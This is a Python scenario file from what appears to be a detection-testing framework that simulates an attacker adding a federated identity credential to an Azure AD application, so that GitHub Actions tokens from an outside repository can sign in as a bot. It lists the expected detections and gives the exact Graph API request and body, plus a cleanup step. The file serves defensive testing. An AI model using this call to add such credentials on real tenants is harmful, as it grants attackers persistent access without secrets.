"""Somebody else's tokens may sign in as the bot."""

from typing import Final

from sekimori.sim.attack import Attacker
from sekimori.sim.plan import Plan, Step

ID: Final = "federated_credential_added"
TITLE: Final = {"ja": "フェデレーション資格情報を追加", "en": "Add a federated credential"}
STORY: Final = {
    "ja": "攻撃者のリポジトリのワークフローが、秘密も証明書も使わずにボットとしてサインインできるようにする。",
    "en": "A workflow in the attacker's repository may now sign in as the bot, without any secret or certificate.",
}
ATTACK: Final = ("T1098.001",)
MUST_FIRE: Final = ("federated_credential_added",)
MUST_STAY_QUIET: Final = (
    "service_principal_sign_in",
    "service_principal_added",
    "client_credential_added",
    "permission_requested",
    "graph_call_without_entry",
)
TELLING: Final = ("FederatedIdentityCredentials",)
PLAN: Final = Plan(
    permissions=("Application.ReadWrite.All",),
    steps=(
        Step(
            method="POST",
            path="/applications/{object_id}/federatedIdentityCredentials",
            body={
                "name": "sekimori-drill",
                "issuer": "https://token.actions.githubusercontent.com",
                "subject": "repo:example/nothing:ref:refs/heads/main",
                "audiences": ["api://AzureADTokenExchange"],
            },
            keep={"credential_id": "id"},
        ),
    ),
    undo=(Step(method="DELETE", path="/applications/{object_id}/federatedIdentityCredentials/{credential_id}"),),
)


async def detonate(attacker: Attacker) -> None:
    """Trust the tokens of a workflow in the attacker's repository; one more each time."""
    body = {
        "name": f"build-{attacker.now():%H%M%S}",
        "issuer": "https://token.actions.githubusercontent.com",
        "subject": f"repo:northwind-ci/tools-{attacker.now():%H%M%S}:ref:refs/heads/main",
        "audiences": ["api://AzureADTokenExchange"],
    }
    await attacker.manage("POST", "/federatedIdentityCredentials", body)
